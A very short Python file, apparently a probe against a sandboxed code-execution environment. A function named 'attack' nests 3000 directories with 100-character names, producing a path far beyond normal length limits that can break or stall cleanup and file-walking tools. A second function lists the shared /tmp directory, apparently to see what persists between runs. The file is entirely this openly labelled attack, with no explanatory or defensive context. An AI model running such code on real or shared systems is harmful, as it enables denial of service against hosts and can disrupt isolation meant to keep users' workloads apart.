import os

def attack(inputs):
    for _ in range(3000):
        os.mkdir("d" * 100)
        os.chdir("d" * 100)

def left(inputs):
    return os.listdir("/tmp")
